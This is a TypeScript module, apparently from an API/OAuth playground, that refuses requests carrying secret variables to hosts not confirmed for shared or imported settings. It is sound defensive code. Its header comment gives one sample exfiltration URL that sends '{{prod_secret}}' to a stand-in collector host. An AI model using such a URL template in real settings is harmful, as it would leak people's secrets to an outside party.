/**
 * Where secret variables may go when the settings came from outside: a share link or an import
 * file can write `https://other.example/collect?v={{prod_secret}}`, and the person's own secret
 * variable would be sent there. Pure: settings and variables in, hosts or a refusal out.
 *
 * The rule:
 * - Settings the person made (typed, a preset, a credential saved from those) carry no
 *   `ConfirmedHosts`: their secret variables go wherever they say.
 * - Settings from a share link or an import file carry the hosts the person confirmed: every host
 *   the confirmation listed when they chose `Apply shared settings` or `Import these credentials`.
 * - A URL field the person changed since (typed, pasted, filled by Discover) is theirs: its host
 *   counts as confirmed. Endpoints read on demand from the issuer's metadata count as the issuer's.
 * - A request that carries a secret variable goes out only when every host it goes to (the proxy
 *   too, when on) is confirmed; otherwise it is refused, naming the variable and the host, and
 *   nothing is sent. Hosts are compared after the variables are resolved: a variable pointing at
 *   another host later (another environment) does not take the secret with it.
 * - Hosts are what the browser sends to (the URL parser's `host`): `http:h/x` and `https://a@h/` go
 *   to `h`. Secret variables are never resolved for the list, so a host made of one is shown as
 *   `{{name}}.example` and is never confirmed, and no secret value is ever stored among the hosts.
 */
import { PlaygroundError } from '../errors/playground-error';
import type { AuthConfig, TestRequestConfig } from './auth-config';
import { referencedNames, resolveText, VARIABLE_NAME, variableValues, type Variable } from './variables';
import { URL_FIELD_LABELS } from './field-labels';

/** The OAuth fields that hold URLs a flow sends to (discovery, the endpoints). */
export const OAUTH_URL_FIELDS = ['issuer', 'authorizationUrl', 'tokenUrl', 'deviceAuthorizationUrl', 'revocationUrl', 'introspectionUrl', 'userinfoUrl', 'parUrl', 'jwksUri'] as const;
export type UrlField = (typeof OAUTH_URL_FIELDS)[number] | 'testUrl' | 'proxyUrl';

const LABELS: Record<UrlField, string> = URL_FIELD_LABELS;

/** What settings from outside carry: where they came from and what the person confirmed. */
export interface ConfirmedHosts {
  from: 'share link' | 'import';
  /** The hosts the confirmation listed when the person accepted it. */
  hosts: string[];
  /** The URL fields as they came (variables unresolved): a field that differs now was changed by the person. */
  urls: Partial<Record<UrlField, string>>;
}

/** The parts of a configuration that say where requests go. */
export interface Destinations {
  auth: { oauth2: Pick<AuthConfig['oauth2'], (typeof OAUTH_URL_FIELDS)[number]>; proxy: Pick<AuthConfig['proxy'], 'enabled' | 'url'> };
  testRequest: Pick<TestRequestConfig, 'url'>;
}

/** The URL of each field the settings send requests to, trimmed; the Proxy URL only while the proxy is on. */
export function urlsOf({ auth, testRequest }: Destinations): Partial<Record<UrlField, string>> {
  const urls: Partial<Record<UrlField, string>> = {};
  const add = (field: UrlField, value: string) => void (value.trim() !== '' && (urls[field] = value.trim()));
  for (const field of OAUTH_URL_FIELDS) add(field, auth.oauth2[field]);
  add('testUrl', testRequest.url);
  if (auth.proxy.enabled) add('proxyUrl', auth.proxy.url);
  return urls;
}

/**
 * The host a request to `url` goes to, as the browser parses it (`http:h/x` and `https://a@h/`
 * go to `h`); null when `url` is not an http(s) URL (such a request is refused before sending).
 */
export function hostOf(url: string): string | null {
  try {
    const parsed = new URL(url.trim());
    return parsed.protocol === 'https:' || parsed.protocol === 'http:' ? parsed.host : null;
  } catch {
    return null;
  }
}

/** The values variables resolve to for showing and storing hosts: secret ones stay `{{name}}`. */
const publicValues = (variables: readonly Variable[]) => variableValues(variables.filter((v) => !v.secret));

export interface HostList {
  /** The hosts requests will go to. */
  hosts: string[];
  /** URLs whose host is not known before sending (an unknown variable, a secret variable in it, not a URL), secret variables unresolved. */
  unclear: string[];
}

/** Every host the settings send requests to, with the variables of `variables` that are not secret resolved. */
export function listHosts(settings: Destinations, variables: readonly Variable[]): HostList {
  const values = publicValues(variables);
  const hosts = new Set<string>();
  const unclear = new Set<string>();
  for (const url of Object.values(urlsOf(settings))) {
    const shown = resolveText(url, values);
    const host = hostOf(shown);
    if (host !== null && !host.includes('{{')) hosts.add(host);
    else unclear.add(shown);
  }
  return { hosts: [...hosts], unclear: [...unclear] };
}

/** What accepting a confirmation that listed `listHosts(settings, variables)` confirms. */
export function confirmHosts(from: ConfirmedHosts['from'], settings: Destinations, variables: readonly Variable[]): ConfirmedHosts {
  return { from, hosts: listHosts(settings, variables).hosts, urls: urlsOf(settings) };
}

/** The variables referred to anywhere in the strings of `value` (keys aside), by valid name, in order of first use. */
export function referencesIn(value: unknown): string[] {
  const names = new Set<string>();
  const visit = (inner: unknown): void => {
    if (typeof inner === 'string') referencedNames(inner).forEach((name) => VARIABLE_NAME.test(name) && names.add(name));
    else if (typeof inner === 'object' && inner !== null) Object.values(inner).forEach(visit);
  };
  visit(value);
  return [...names];
}

/** The secret variables referred to anywhere in the strings of `value`, in order of first use. */
export function secretReferences(value: unknown, variables: readonly Variable[]): string[] {
  const secret = new Set(variables.filter((v) => v.secret).map((v) => v.name));
  return referencesIn(value).filter((name) => secret.has(name));
}

/** One request about to be built: the fields whose URLs it goes to, and everything it is built from. */
export interface Outgoing {
  fields: readonly UrlField[];
  /** The values the request is built from, before resolution (saved secrets filled in), searched for secret variables. */
  carries: unknown;
}

/**
 * Refuses a request that would carry a secret variable to a host not confirmed for settings from
 * outside (see the rule above). Settings without `confirmed` are the person's: never refused.
 * @throws PlaygroundError `unconfirmed_host` naming the variables and the host; nothing was sent.
 */
export function assertConfirmedHosts(confirmed: ConfirmedHosts | undefined, settings: Destinations, variables: readonly Variable[], outgoing: Outgoing): void {
  if (!confirmed) return;
  const urls = urlsOf(settings);
  const fields = [...new Set<UrlField>([...outgoing.fields, 'proxyUrl'])].filter((field) => urls[field] !== undefined);
  const names = secretReferences([outgoing.carries, fields.map((field) => urls[field])], variables);
  if (names.length === 0) return;
  const values = variableValues(variables);
  for (const field of fields) {
    const url = urls[field]!;
    // changed since the settings came: the person's own URL
    if (url !== confirmed.urls[field]) continue;
    const host = hostOf(resolveText(url, values));
    if (host === null || confirmed.hosts.includes(host)) continue;
    const shown = hostOf(resolveText(url, publicValues(variables))) ?? url;
    const list = names.map((name) => `{{${name}}}`).join(', ');
    const plural = names.length > 1;
    throw new PlaygroundError(`The secret variable${plural ? 's' : ''} ${list} ${plural ? 'were' : 'was'} not sent to ${shown} (${LABELS[field]}): these settings came from ${confirmed.from === 'import' ? 'an import file' : 'a share link'}, and that host was not confirmed. Nothing was sent.`, {
      kind: 'input',
      code: 'unconfirmed_host',
      hint: `Secret variables go only to the hosts listed when the settings were opened, and to URLs you type yourself. If ${shown} is right, type the URL into ${LABELS[field]} yourself; otherwise change the settings.`,
    });
  }
}
